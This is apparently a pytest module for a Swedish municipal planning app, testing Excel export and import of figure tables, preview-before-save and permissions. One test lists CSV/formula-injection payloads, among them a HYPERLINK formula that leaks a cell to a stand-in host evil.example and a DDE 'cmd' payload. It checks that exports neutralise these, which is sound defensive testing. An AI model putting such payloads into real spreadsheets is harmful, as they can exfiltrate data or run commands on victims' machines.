"""Tables to and from Excel: .xlsx with the computed rows, and figures from an .xlsx
file or pasted cells shown in the grid before anything is saved (#12)."""

import io

import openpyxl

from followup.tables.tests.test_tables import GRID, hvb
from tests.fixtures import snapshot


def workbook(rows):
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_a_table_exports_to_xlsx_with_its_computed_rows(as_user):
    response = as_user("per").get(GRID + "/excel")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith('SOC-2026-nyckeltal-hvb.xlsx"')
    ws = openpyxl.load_workbook(io.BytesIO(response.data)).active
    cells = [[c.value for c in row] for row in ws.iter_rows()]
    assert cells[0][0] == "Placeringar av barn och unga i HVB (tkr)"
    assert cells[2] == [None, "Utfall jan–aug 2026", "Utfall jan–aug 2025"]
    by_label = {row[0]: row[1:] for row in cells[3:]}
    assert by_label["Kostnad för placeringar"] == [31840, 36210]
    assert by_label["Nettokostnad"] == [30630, 34730]  # kost − int, computed
    assert round(by_label["Nettokostnad per vårddygn"][0], 4) == round(30630 / 4620, 4)
    assert ws["A7"].font.b is False and ws["A6"].font.b is True  # Nettokostnad is bold
    assert ws["B8"].number_format == "#,##0.0"


def test_an_xlsx_file_is_previewed_in_the_grid_and_saved_only_on_save(as_user):
    sara = as_user("sara")
    sara.get(GRID)
    before = snapshot()
    data = workbook([["", "Utfall jan–aug 2026", "Utfall jan–aug 2025"],
                     ["Kostnad för placeringar", 40000.5, 36210],
                     ["Nettokostnad", 1, 1],
                     ["Antal vårddygn", "4 700", None],
                     ["Något annat", 5, 5]])
    response = sara.post(GRID + "/inlasning",
                         {"file": (io.BytesIO(data), "hvb.xlsx")},
                         content_type="multipart/form-data")
    assert response.status_code == 200, response.text[-2000:]
    page = response.text
    assert "Förhandsvisning av värden från Excel" in page and "Inget är sparat ännu" in page
    assert 'value="40\u00a0000,5"' in page and 'value="4 700"' in page
    assert "Raden ”Nettokostnad” räknas fram i tabellen" in page
    assert "En rad i Excel kunde inte kopplas till någon rad i tabellen" in page
    assert snapshot() == before
    # The grid with the figures from Excel is saved like any other.
    fields = {"c-0-0": "40\u00a0000,5", "c-3-0": "4 700", "version": "1"}
    assert sara.post(GRID, fields).status_code == 302
    assert [str(v) for v in sorted(hvb().rows, key=lambda r: r.position)[0].values] == [
        "40000.5", "36210"]


def test_pasted_cells_without_labels_go_row_for_row(as_user):
    sara = as_user("sara")
    sara.get(GRID)
    pasted = "100\t200\n10\t20\n5\t5\n"  # kost, int, dygn: exactly the rows that take figures
    page = sara.post(GRID + "/inlasning", {"pasted": pasted}).text
    assert all(f'id="c-{n}" value="{v}"' in page for n, v in
               (("0-0", "100"), ("0-1", "200"), ("1-0", "10"), ("3-1", "5")))
    assert "= 90" not in page and "beräknat" not in page
    assert '<output class="computed" id="o-2-0" data-prefix="">90</output>' in page


def test_a_file_that_is_no_xlsx_is_refused_in_swedish(as_user):
    sara = as_user("sara")
    sara.get(GRID)
    response = sara.post(GRID + "/inlasning", {"file": (io.BytesIO(b"not excel"), "x.xlsx")},
                         content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Filen kunde inte läsas som en Excelfil (.xlsx)." in response.text


def test_unreadable_pasted_figures_are_shown_on_their_cells(as_user):
    sara = as_user("sara")
    sara.get(GRID)
    response = sara.post(GRID + "/inlasning", {"pasted": "1.5\tabc\n1\t2\n3\t4"})
    assert response.status_code == 422
    assert "använd decimalkomma, inte punkt" in response.text
    assert "”abc” är inget tal" in response.text


def test_a_reader_may_not_bring_figures_in(as_user):
    per = as_user("per")
    per.get(GRID)
    assert per.post(GRID + "/inlasning", {"pasted": "1\t2"}).status_code == 403


INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1+1", "-2+3", "@SUM(1,1)",
              "=cmd|' /C calc'!A0", "\t=1+1"]


def test_text_that_looks_like_a_formula_is_written_as_text(as_user):
    """Labels beginning with =, +, - or @ are text in the .xlsx, never formulas (#23.4):
    no <f> element anywhere, every text cell an inline string, quote-prefixed."""
    import re
    import zipfile

    from sqlalchemy import select

    from followup.core.extensions import db
    from followup.tables.models import FigureTable

    table = db.session.scalar(select(FigureTable).where(FigureTable.key == "resultat-augusti"))
    table.title = INJECTIONS[0]
    table.unit = "=1+2"
    rows = sorted(table.rows, key=lambda r: r.position)
    for row, label in zip(rows, INJECTIONS[1:]):
        row.label = label
    table.columns = [{**c, "label": f"=A{j + 1}*2", "group": "+Helår" if j < 2 else None}
                     for j, c in enumerate(table.columns)]
    db.session.commit()
    response = as_user("per").get("/plans/SOC-2026/tabeller/resultat-augusti/excel")
    assert response.status_code == 200

    with zipfile.ZipFile(io.BytesIO(response.data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<(\w+:)?f[\s>/]", xml) for xml in sheets)

    ws = openpyxl.load_workbook(io.BytesIO(response.data)).active
    texts = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert f'{INJECTIONS[0]} (=1+2)' in texts
    for label in [*INJECTIONS[1:], "=A1*2", "=A4*2", "+Helår"]:
        cell = texts[label]
        assert cell.data_type == "s", label
        assert cell.quotePrefix, label
    assert all(c.data_type == "s" for c in texts.values())
    assert ws["D3"].value is None and ws["E3"].value is None  # no group: no text at all


def test_characters_xml_cannot_hold_are_left_out_of_the_xlsx(as_user):
    from sqlalchemy import select

    from followup.core.extensions import db
    from followup.tables.models import FigureTable

    table = db.session.scalar(select(FigureTable).where(FigureTable.key == "nyckeltal-hvb"))
    table.title = "'History'"
    rows = sorted(table.rows, key=lambda r: r.position)
    rows[0].label = "Kostnad\x07 för placeringar"  # also in the comment on Nettokostnad
    db.session.commit()
    response = as_user("per").get(GRID + "/excel")
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(response.data))
    assert wb.active.title == "Tabell"
    assert wb.active["A4"].value == "Kostnad för placeringar"
    assert wb.active["B6"].comment.text.startswith(
        "Räknas fram av Planuppföljning: Kostnad för placeringar − Avgår")
